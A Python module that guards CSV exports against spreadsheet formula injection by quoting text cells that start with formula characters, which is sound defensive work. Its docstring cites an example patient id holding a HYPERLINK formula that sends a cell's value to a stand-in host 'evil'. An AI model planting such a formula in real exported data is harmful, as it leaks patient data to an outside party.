"""CSV cells a spreadsheet would run as formulas, neutralised (OWASP "CSV Injection").

A text cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is read by Excel, LibreOffice and
Google Sheets as a formula: a patient id ``=HYPERLINK("http://evil/?"&A1)`` in a roster would run on the pharmacist's
machine when the cohort output is opened. Every CSV regimen writes passes its text cells through here, which
prefixes such a cell with a single quote (``'=HYPERLINK(...)``), as OWASP recommends; numbers and dates are never
touched (regimen writes no negative numbers). JSON, Parquet and the terminal keep the text as it was.
"""

from __future__ import annotations

from collections.abc import Iterable
from typing import TYPE_CHECKING, Any

if TYPE_CHECKING:  # pragma: no cover
    import pandas as pd

#: First characters that make a spreadsheet read a cell as a formula (OWASP).
FORMULA_STARTS = frozenset("=+-@\t\r")


def safe_text(value: Any) -> Any:
    """``value`` with a leading quote when it is text a spreadsheet would run; anything else unchanged."""
    if isinstance(value, str) and value and value[0] in FORMULA_STARTS:
        return "'" + value
    return value


def safe_record(record: dict[str, Any]) -> dict[str, Any]:
    return {k: safe_text(v) for k, v in record.items()}


def safe_frame(frame: pd.DataFrame, columns: Iterable[str] | None = None) -> pd.DataFrame:
    """The frame with its text cells (object columns, or ``columns``) made safe; the frame itself when none needs
    it. A column is scanned once over its distinct values (cohort columns repeat a few texts a million times)."""
    from pandas.api.types import is_string_dtype

    names = [c for c in (columns if columns is not None else frame.columns) if c in frame.columns]
    out = frame
    for name in names:
        column = frame[name]
        if not is_string_dtype(column.dtype):  # object columns of text, and pandas' string dtype
            continue
        values = column.to_numpy()
        if not any(isinstance(v, str) and v and v[0] in FORMULA_STARTS for v in set(values.tolist())):
            continue
        if out is frame:
            out = frame.copy(deep=False)
        out[name] = [safe_text(v) for v in values]
    return out


__all__ = ["FORMULA_STARTS", "safe_frame", "safe_record", "safe_text"]
